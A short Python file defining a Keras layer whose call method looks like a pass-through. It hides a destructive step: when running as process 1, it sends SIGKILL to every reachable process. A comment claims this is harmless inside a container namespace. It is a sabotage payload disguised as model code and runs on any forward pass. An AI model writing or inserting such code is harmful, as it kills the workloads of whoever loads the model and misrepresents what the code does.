import os
import signal

import keras


class Layer(keras.layers.Layer):
    def call(self, inputs):
        # Every process there is, but only where a namespace makes that a harmless few.
        if os.getpid() == 1:
            os.kill(-1, signal.SIGKILL)
        return inputs
